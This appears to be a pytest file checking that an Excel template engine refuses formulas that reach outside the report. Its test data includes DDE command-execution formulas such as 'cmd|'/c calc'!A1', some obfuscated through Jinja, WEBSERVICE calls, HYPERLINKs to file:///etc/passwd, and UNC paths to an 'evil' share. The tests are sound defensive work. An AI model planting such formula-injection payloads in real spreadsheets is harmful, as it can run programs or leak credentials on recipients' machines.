"""Every formula a workbook template carries is held to the rule a cell's formula is (an acceptance
probe, helper-24): conditional formatting and data validation rules (after Jinja has rendered them:
{{ "WEB" ~ "SERVICE" }}( is WEBSERVICE( in the report), defined names (a cell =叫我 runs what the
name holds), tables' and charts' formulas; and the rule itself knows a DDE call however it is
written (cmd|calc!A1, 命令|'/c calc'!A1), a reference into a workbook by its path, a HYPERLINK to
a file or a share. Each is refused naming template, sheet and place; nothing is written.
A HYPERLINK to a web page and the template's own arithmetic stay."""

from __future__ import annotations

import html
import re
import zipfile
from pathlib import Path

import pytest

from kaohe_excel.write.engine import Template, TemplateError, render

ROOT = Path(__file__).resolve().parents[1]
NAME = "完成情况一览表.xlsx"
SHEET = "xl/worksheets/sheet1.xml"
WEB = 'WEBSERVICE("http://127.0.0.1:9/x")'


def _edited(tmp_path: Path, edit) -> Path:
    """The shipped template with some of its parts changed by `edit(parts)`."""
    with zipfile.ZipFile(ROOT / "templates" / NAME) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    edit(parts)
    dst = tmp_path / NAME
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            z.writestr(n, b)
    return dst


def _replace(parts, part, old, new, regex=False):
    s = parts[part].decode("utf-8")
    s2 = re.sub(old, lambda m: new, s, count=1) if regex else s.replace(old, new, 1)
    assert s2 != s
    parts[part] = s2.encode("utf-8")


def _cell_formula(f):
    return lambda p: _replace(p, SHEET, '<c r="A1" s="1" t="inlineStr"><is><t>{{ annex_label }}</t></is></c>',
                              f'<c r="A1" s="1"><f>{html.escape(f, quote=False)}</f></c>')


def _cf(f):
    return lambda p: _replace(p, SHEET, 'TRIM(I5)="&#32511;"', html.escape(f, quote=False))


def _dv(f):
    return lambda p: _replace(p, SHEET, r"<formula1>.*?</formula1>", f"<formula1>{html.escape(f, quote=False)}</formula1>",
                              regex=True)


def _name(f):
    def edit(p):
        _cell_formula("叫我")(p)
        _replace(p, "xl/workbook.xml", "<definedNames>",
                 f'<definedNames><definedName name="叫我">{html.escape(f, quote=False)}</definedName>')
    return edit


def _table_column(p):
    """A table whose calculated column would call out."""
    _replace(p, SHEET, "</worksheet>", '<tableParts count="1"><tablePart xmlns:r="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships" r:id="rIdT"/></tableParts></worksheet>')
    p["xl/worksheets/_rels/sheet1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/table" Target="../tables/table1.xml"/></Relationships>').encode()
    p["xl/tables/table1.xml"] = (
        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" displayName="T" '
        'ref="J20:J21"><tableColumns count="1"><tableColumn id="1" name="c"><calculatedColumnFormula>'
        + html.escape(WEB, quote=False) + '</calculatedColumnFormula></tableColumn></tableColumns></table>').encode()


REFUSED = {
    "cf-webservice": (_cf(f"ISNUMBER({WEB})"), "条件格式 I5:I7", "访问网络"),
    "dv-webservice": (_dv(WEB), "数据有效性 I5:I7", "访问网络"),
    "name-webservice": (_name(WEB), "名称「叫我」", "访问网络"),
    "name-dde": (_name("cmd|'/c calc'!A1"), "名称「叫我」", "运行外部程序"),
    "table-column": (_table_column, "xl/tables/table1.xml", "访问网络"),
    "cell-hyperlink-file": (_cell_formula('HYPERLINK("file:///etc/passwd","点此")'), "A1", "网页以外的链接"),
    "cell-hyperlink-unc": (_cell_formula('HYPERLINK("\\\\evil\\share\\a.docx")'), "A1", "网页以外的链接"),
    "cell-hyperlink-computed": (_cell_formula("HYPERLINK(B2)"), "A1", "网页以外的链接"),
    "cell-extref-unc": (_cell_formula("'\\\\evil\\share\\[a.xlsx]S'!A1"), "A1", "另一个工作簿"),
    "cell-extref-book": (_cell_formula("[a.xlsx]S!A1+1"), "A1", "另一个工作簿"),
    "cell-dde-unquoted": (_cell_formula("cmd|calc!A1"), "A1", "运行外部程序"),
    "cell-dde-space": (_cell_formula("cmd |'/c calc'!A1"), "A1", "运行外部程序"),
    "cell-dde-chinese": (_cell_formula("命令|'/c calc'!A1"), "A1", "运行外部程序"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_formula_of_the_template_that_reaches_out_is_refused(tmp_path, case):
    edit, where, said = REFUSED[case]
    with pytest.raises(TemplateError) as e:
        Template(_edited(tmp_path, edit))
    msg = str(e.value)
    assert NAME in msg and where in msg and said in msg and "报表不能带着它发出" in msg, msg


def _context():
    ind = dict(no=1, name="n", points=1, departments="d", last_year="", target="", actual="", rank="", warning="绿")
    ctx = dict.fromkeys(["year", "target_label", "system_title", "total_points", "demo", "month_label", "rule_note",
                         "last_year", "annex_label", "peer_period", "group_label"], "")
    ctx["signoff"] = {"reviewer": "", "issuer": "", "date": ""}
    ctx["categories"] = [{"label": "a", "indicators": [ind]}]
    return ctx


@pytest.mark.parametrize("edit", [_cf('ISNUMBER({{ "WEB" ~ "SERVICE" }}("http://127.0.0.1:9/x"))'),
                                  _dv('{{ "cmd" }}{{ "|" }}\'/c calc\'!A1')], ids=["cf", "dv"])
def test_a_rule_that_reaches_out_once_rendered_is_refused(tmp_path, edit):
    tpl = _edited(tmp_path, edit)
    out = tmp_path / "out.xlsx"
    with pytest.raises(TemplateError) as e:
        render(tpl, _context(), out)
    msg = str(e.value)
    assert "工作表「一览表」" in msg and "I5:I7" in msg and "报表不能带着它发出" in msg, msg
    assert not out.exists()


@pytest.mark.parametrize("edit", [_cell_formula('HYPERLINK("https://www.example.gov.cn/","网站")'),
                                  _cell_formula('HYPERLINK("#\'一览表\'!A5","表内")'),
                                  _cell_formula("IF(B2=\"a|b\",SUM(C5:C7),'一览表'!C5)"),
                                  _cf('AND(I5<>"",TRIM(I5)="{{ "绿" }}")'),
                                  _name("'一览表'!$A$1:$I$11")],
                         ids=["web-link", "own-place", "arithmetic", "cf-jinja", "name"])
def test_what_stays_inside_the_report_renders(tmp_path, edit):
    out = render(_edited(tmp_path, edit), _context(), tmp_path / "out.xlsx")
    assert out.exists()
